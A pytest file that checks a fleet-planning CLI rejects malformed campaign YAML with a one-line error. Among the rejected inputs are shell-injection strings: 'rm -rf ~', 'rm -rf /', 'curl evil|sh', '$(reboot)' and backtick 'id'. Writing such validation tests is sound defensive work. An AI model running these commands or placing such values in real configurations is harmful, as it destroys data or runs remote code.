"""`suite fleet plan` refuses nonsense before anything is rented: exit 2, one line naming the value."""

from __future__ import annotations

import pytest

from suite.cli import main

BASE = {
    "name": "chk",
    "workload": "dcgan64",
    "hours": "0.5",
    "instances": "\n  - g6.xlarge",
}


def plan_file(tmp_path, capsys, content: bytes):
    path = tmp_path / "campaign.yaml"
    path.write_bytes(content)
    code = main(["fleet", "plan", str(path), "--out", str(tmp_path / "out")])
    out, err = capsys.readouterr()
    return code, out, err


def campaign(**changes) -> bytes:
    fields = {**BASE, **changes}
    return "".join(f"{key}: {value}\n" for key, value in fields.items() if value is not None).encode()


@pytest.mark.parametrize(
    "changes, expected",
    [
        ({"hours": ".nan"}, "must be a number of hours from 0.01 to 168, got"),
        ({"hours": ".inf"}, "must be a number of hours from 0.01 to 168, got"),
        ({"hours": "1.0e308"}, "must be a number of hours from 0.01 to 168, got"),
        ({"hours": "1e300"}, "must be a number of hours from 0.01 to 168, got"),
        ({"max_cost_usd": ".nan"}, "must be an amount in $ from 0.01 to 100,000"),
        ({"max_cost_usd": "1e308"}, "must be an amount in $ from 0.01 to 100,000"),
        ({"workload": "dcgan65"}, "unknown workload 'dcgan65'"),
        ({"instances": "\n  - {type: g6.xlarge, options: {nproc: 64}}"}, "nproc 64 on g6.xlarge"),
        ({"instances": "\n  - {type: g6.xlarge, backend: hpu}"}, "backend 'hpu' cannot run there"),
        ({"instances": "\n  - {type: dl1.24xlarge, backend: cuda}"}, "backend 'cuda' cannot run there"),
        ({"instances": "\n  - {type: g6.xlarge, region: 'us-east-1; rm -rf ~'}"}, "is not a plain region"),
        ({"instances": "\n  - {type: g6.xlarge, cloud: 'aws`id`'}"}, "is not a plain cloud"),
        ({"source": "{git: 'https://x.org/r.git; curl evil|sh'}"}, "is not a plain git"),
        ({"source": "{git: 'https://x.org/r.git', ref: '$(reboot)'}"}, "is not a plain ref"),
        ({"records": "{bucket: 's3://bkt/x; rm -rf /'}"}, "bucket 's3://bkt/x; rm -rf /'"),
    ],
)
def test_fleet_plan_refuses_nonsense_with_one_line(tmp_path, capsys, changes, expected):
    code, out, err = plan_file(tmp_path, capsys, campaign(**changes))
    assert code == 2, err
    assert expected in err and len(err.strip().splitlines()) == 1, err
    assert "Traceback" not in err and not (tmp_path / "out" / "tasks").exists()


def test_fleet_plan_refuses_a_non_utf8_file(tmp_path, capsys):
    code, _, err = plan_file(tmp_path, capsys, campaign() + b"# caf\xe9\n")
    assert code == 2 and "is not UTF-8 text" in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize("value", ["nan", "inf", "1e308"])
def test_fleet_plan_inline_refuses_non_finite_numbers(tmp_path, capsys, value):
    for option in ("--hours", "--max-cost"):
        code = main(["fleet", "plan", "--instances", "g6.xlarge", option, value, "--out", str(tmp_path)])
        err = capsys.readouterr().err
        assert code == 2 and f"{option} must be" in err and "from 0.01 to" in err, err


def test_fleet_plan_still_accepts_a_sound_plan(tmp_path, capsys):
    code, out, err = plan_file(
        tmp_path,
        capsys,
        campaign(
            instances="\n  - {type: dl1.24xlarge, options: {nproc: 8}, region: us-east-1, cloud: aws, "
            "host_image: ami-0123456789abcdef0}"
        ),
    )
    assert code == 0, err
